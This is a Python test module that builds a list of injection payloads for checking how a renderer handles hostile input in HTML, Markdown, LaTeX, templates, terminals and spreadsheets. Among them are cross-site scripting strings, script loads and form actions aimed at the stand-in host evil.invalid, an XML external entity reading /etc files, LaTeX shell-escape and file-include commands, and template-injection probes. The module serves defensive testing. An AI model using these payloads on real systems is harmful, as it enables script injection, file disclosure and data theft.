"""Text that tries to become alive on a page, in a document, in a spreadsheet or on a terminal."""

from __future__ import annotations

#: Each with a word of its own in it, @, by which it is found again.
_TEMPLATES: tuple[str, ...] = (
    # elements, and what runs in them
    "<script>window.hit='@'</script>",
    "<ScRiPt src=//evil.invalid/@.js></sCrIpT>",
    "<img src=x onerror=alert('@')>",
    "<svg/onload=alert('@')>",
    "<svg><script>alert('@')</script></svg>",
    "<svg><a xlink:href=javascript:alert('@')><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert('@')></style></mtext></math>",
    "<math><maction actiontype=statusline href=javascript:alert('@')>x</maction></math>",
    "<iframe srcdoc='<script>alert(`@`)</script>'></iframe>",
    "<object data=javascript:alert('@')></object><embed src=//evil.invalid/@>",
    "<form action=//evil.invalid/@><input autofocus onfocus=alert('@')></form>",
    "<details open ontoggle=alert('@')>",
    "<base href=//evil.invalid/@/><link rel=stylesheet href=@.css><meta http-equiv=refresh content=0>",
    "<style>@import url(//evil.invalid/@);*{display:none}</style>",
    "<b style=background:url(//evil.invalid/@)>bold</b>",
    "<template shadowrootmode=open><script>alert('@')</script></template>",
    # ways out of where the text stands
    '"><script>alert("@")</script>',
    "' onmouseover='alert(/@/)",
    '" autofocus onfocus="alert(/@/)" x="',
    "` onclick=alert`@` ",
    "</title><script>alert('@')</script>",
    "</style><script>alert('@')</script>",
    "</script><script>alert('@')</script>",
    "</textarea></noscript></svg></math></main></body></html><script>alert('@')</script>",
    "<!-- @ -->",
    "--!><script>alert('@')</script>",
    "<![CDATA[<script>alert('@')</script>]]>",
    "]]><script>alert('@')</script>",
    "<?xml-stylesheet href='//evil.invalid/@'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/@'>]>&y;",
    # entities
    "&lt;script&gt;alert('@')&lt;/script&gt;",
    "&#60;script&#62;alert('@')&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert('@')&#x3e;",
    "&amp;lt;script&amp;gt;@",
    # Markdown
    "[@](javascript:alert('@'))",
    "[@](JaVa&#115;cript:alert(1))",
    "[@](data:text/html;base64,PHNjcmlwdD4=)",
    "![@](//evil.invalid/@.png)",
    "<javascript:alert('@')>",
    "[@]: javascript:alert(1)",
    "`@` **@** _@_ ~~@~~ | @ |",
    "# @",
    "1. @",
    # formulas
    "$x</math><script>alert('@')</script>$",
    "$$@",
    "$\\text{<script>alert('@')</script>}$",
    "$\\href{javascript:alert('@')}{@}$",
    "\\text{<img src=x onerror=alert('@')>}",
    "\\input{/etc/@}\\write18{@}\\immediate\\openout1",
    "} \\end{document} \\catcode`@=0",
    # templates and formats
    "<< say.__class__.__mro__ >> @",
    "<% for x in range(999999999) %>@<% endfor %>",
    "<# @ #>",
    "{{ 7*7 }}{% raw %}@",
    "{0.__class__} {title!r} {x:>99999999} @",
    "%(title)s %s %n @",
    "${@} $(@) #{@}",
    # signs that cannot be seen
    "@\u2028alert(1)\u2029@",
    "@\u202e>tpircs<\u202c\u2066@\u2069",
    "@\x00\x01\x08\x0b\x0c\x1f\x7f@",
    "@\x1b[2J\x1b]0;@\x07\x1b[31m\x9b31m@",
    "@\ufffe\uffff\U0001fffe@",
    "@\n\n# @\r\n- @",
    "「@」『@』“@”‘@’《@》",
    "@" + "long" * 60,
    # spreadsheets, GIFT, Moodle
    '=HYPERLINK("//evil.invalid/@")',
    "@ ::q::{=1 ~2 #3}\n\n::r:: @ {T}\n\n$CATEGORY: @",
    "[[@]] {:NUMERICAL:=1} @@PLUGINFILE@@",
)
#: So begins the word of a payload.
WORD = "qz{}zq"
PAYLOADS: tuple[str, ...] = tuple(text.replace("@", WORD.format(place)) for place, text in enumerate(_TEMPLATES))
